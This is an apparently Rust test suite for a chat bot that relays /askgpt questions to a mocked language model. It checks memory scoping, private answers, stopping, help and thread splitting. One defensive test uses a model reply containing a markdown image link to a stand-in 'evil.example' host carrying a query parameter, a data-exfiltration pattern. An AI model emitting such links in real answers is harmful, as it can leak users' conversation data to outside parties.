//! Slash commands where there is a bot.

use askwell_playground::model::Reply;

use super::house::{Account, House};

#[tokio::test]
async fn a_question_is_acknowledged_silently_and_answered_by_one_post_of_the_bot() {
    let house = House::with(Account::Bot, "").await;
    house
        .model
        .answer_next(Reply::text("맑아요. `우산`은 필요 없어요."));

    house.ask("alice", "오늘 날씨 어때?").await;

    let answer = house
        .see("bob", "the answer", |post| {
            post.text.contains("필요 없어요")
        })
        .await;
    assert_eq!(answer.author, "gptbot");
    assert_eq!(
        answer.text,
        "**alice**: 오늘 날씨 어때?\n**GPT**: 맑아요. `우산`은 필요 없어요."
    );
    assert_eq!(house.texts("bob").len(), 1);
    assert!(answer.edits <= 2, "{} edits", answer.edits);
}

#[tokio::test]
async fn a_conversation_is_remembered_in_its_channel_and_nowhere_else() {
    let house = House::with(Account::Bot, "").await;
    house.model.answer_otherwise(Reply::text("그래요."));
    house.ask("alice", "내 고양이 이름은 나비야").await;
    house
        .see("alice", "the first answer", |post| {
            post.text.contains("그래요")
        })
        .await;

    house.ask("bob", "고양이 이름이 뭐였지?").await;
    house
        .playground
        .run_command("bob", "garden", "/askgpt 고양이 이름은?", None)
        .await;
    house.model.wait_for_requests(3).await;

    let requests = house.model.requests();
    let asked_in = |text: &str| {
        let found = requests
            .iter()
            .find(|request| request.last_user_message().contains(text));
        found.unwrap().body.to_string()
    };
    assert!(asked_in("이름이 뭐였지").contains("alice: 내 고양이 이름은 나비야"));
    assert!(!asked_in("고양이 이름은?").contains("나비야"));
}

#[tokio::test]
async fn a_fresh_conversation_forgets_what_was_said() {
    let house = House::with(Account::Bot, "").await;
    house.model.answer_otherwise(Reply::text("그래요."));
    house.ask("alice", "내 고양이 이름은 나비야").await;
    house
        .see("alice", "the first answer", |post| {
            post.text.contains("그래요")
        })
        .await;

    house.clock.advance(std::time::Duration::from_secs(1));
    house.ask("alice", "새로").await;
    house.ask("alice", "고양이 이름이 뭐였지?").await;
    house.model.wait_for_requests(2).await;

    let requests = house.model.requests();
    assert!(!requests[1].body.to_string().contains("나비야"));
}

#[tokio::test]
async fn a_stop_ends_the_running_answer_and_keeps_what_was_shown() {
    let house = House::with(Account::Bot, "").await;
    let words = "This is the beginning of a long answer that will never end by itself. ";
    house
        .model
        .answer_next(Reply::deltas([words]).gate("never"));
    house.ask("alice", "tell me everything").await;
    house
        .see("bob", "the beginning", |post| {
            post.text.contains("the beginning")
        })
        .await;

    house.ask("alice", "그만").await;

    let stopped = house
        .see("bob", "the end", |post| {
            post.text.contains("중지") || post.text.contains("멈")
        })
        .await;
    assert!(
        stopped.text.contains("the beginning of a long answer"),
        "{}",
        stopped.text
    );
    house.model.wait_for_disconnect().await;
}

#[tokio::test]
async fn a_private_question_is_seen_by_nobody_else_and_enters_no_other_conversation() {
    let house = House::with(Account::Bot, "").await;
    house.model.answer_otherwise(Reply::text("secret answer"));
    house.ask("alice", "나만: 내 연봉은?").await;
    let mine = house
        .see("alice", "the private answer", |post| {
            post.text.contains("secret answer")
        })
        .await;
    assert!(mine.is_ephemeral);
    assert!(house.texts("bob").is_empty());

    house.ask("alice", "what did I ask?").await;
    house.model.wait_for_requests(2).await;
    assert!(!house.model.requests()[1].body.to_string().contains("연봉"));
}

#[tokio::test]
async fn what_a_model_writes_pings_nobody() {
    let house = House::with(Account::Bot, "").await;
    house.model.answer_next(Reply::text(
        "Hello @all and @bob, see ![x](http://evil.example/?d=1).",
    ));
    house.ask("alice", "hi").await;
    let answer = house
        .see("bob", "the answer", |post| post.text.contains("Hello"))
        .await;
    assert!(
        !house
            .playground
            .look(|view| view.is_pinged("bob", &answer.id))
    );
    assert_eq!(answer.props["unsafe_links"], "true");
}

#[tokio::test]
async fn help_is_said_to_the_asker_alone_and_asks_no_model() {
    let house = House::with(Account::Bot, "").await;
    for word in ["help", "도움말", ""] {
        house.ask("alice", word).await;
    }
    house
        .see("alice", "the help", |post| {
            post.is_ephemeral && post.text.contains("/askgpt")
        })
        .await;
    assert!(house.texts("bob").is_empty());
    assert!(house.model.requests().is_empty());
}

#[tokio::test]
async fn an_answer_longer_than_a_post_goes_on_in_a_thread_beneath_it() {
    let house = House::with(Account::Bot, "").await;
    let paragraph = "낱말 ".repeat(200);
    let long = vec![paragraph.trim(); 40].join("\n\n");
    house.model.answer_next(Reply::text(&long));
    house.ask("alice", "길게 써 줘").await;
    let second = house
        .see("bob", "the second post", |post| post.root.is_some())
        .await;
    let posts = house
        .playground
        .look(|view| view.posts_seen_by("bob", "lobby"));
    assert_eq!(second.root.as_deref(), Some(posts[0].id.as_str()));
    assert!(posts.iter().all(|post| post.text.chars().count() <= 16_383));
}
